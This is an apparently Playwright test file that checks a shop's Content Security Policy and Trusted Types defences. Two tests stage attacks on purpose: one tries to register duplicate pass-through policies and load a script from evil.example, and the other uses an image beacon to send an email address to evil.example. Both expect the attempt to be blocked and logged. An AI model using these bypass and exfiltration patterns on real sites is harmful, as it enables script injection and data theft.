import { remotesStarted } from '../support/remotes-started.ts';
import { expect, test } from '../support/shop.ts';

test.use({ expectedMessages: [/Trusted Type|TrustedHTML|violates the following/i] });

test('a later script makes no Trusted Types policy of any name that the page’s policy knows', async ({ page }) => {
  const response = await page.goto('/faqs');
  const policy = response?.headers()['content-security-policy'] ?? '';
  const names = /trusted-types ([^;]+)/.exec(policy)?.[1]?.split(' ') ?? [];
  expect(names).toContain('shop-mf-admin-analytics');
  await remotesStarted(page);
  const results = await page.evaluate((known) => {
    interface Factory {
      createPolicy(
        name: string,
        rules: Record<string, (text: string) => string>,
      ): Record<string, (text: string) => unknown>;
    }
    const factory = (globalThis as unknown as { trustedTypes: Factory }).trustedTypes;
    const own = Object.getPrototypeOf(factory) as Factory;
    const lax = { createHTML: (text: string) => text, createScriptURL: (text: string) => text };
    const tried = (make: () => Record<string, (text: string) => unknown>): string => {
      try {
        const made = make();
        const script = document.createElement('script');
        script.src = made['createScriptURL']?.('https://evil.example/a.js') as string;
        return `loads ${script.src}`;
      } catch (error) {
        return error instanceof TypeError ? 'refused' : String(error);
      }
    };
    return known.flatMap((name) => [
      [name, tried(() => factory.createPolicy(name, lax)), tried(() => own.createPolicy.call(factory, name, lax))],
    ]);
  }, names);
  expect(results).toEqual(names.map((name) => [name, 'refused', 'refused']));
});

test('what a page’s policy refuses is counted by the server, for whose file it was', async ({ page, shop }) => {
  await page.goto('/faqs');
  const counted = async () =>
    /csp_violations_total\{directive="img-src",remote="document"\} (\d+)/.exec(
      await (await fetch(shop.metrics)).text(),
    )?.[1];
  const before = Number((await counted()) ?? 0);
  await page.evaluate(() => {
    new Image().src = 'https://evil.example/pixel?email=ann@example.com';
  });
  await expect.poll(async () => Number((await counted()) ?? 0)).toBeGreaterThan(before);
  expect(shop.log).toContain('"blocked":"https://evil.example"');
  expect(shop.log).not.toContain('ann@example.com');
});

test('every remote that a shopper meets still loads its parts', async ({ page }) => {
  await page.goto('/');
  await remotesStarted(page);
  for (const path of ['/womens-activewear', '/product/bordeaux-capsule', '/cart', '/auth', '/admin/analytics']) {
    await page.goto(path);
    await remotesStarted(page);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  }
});
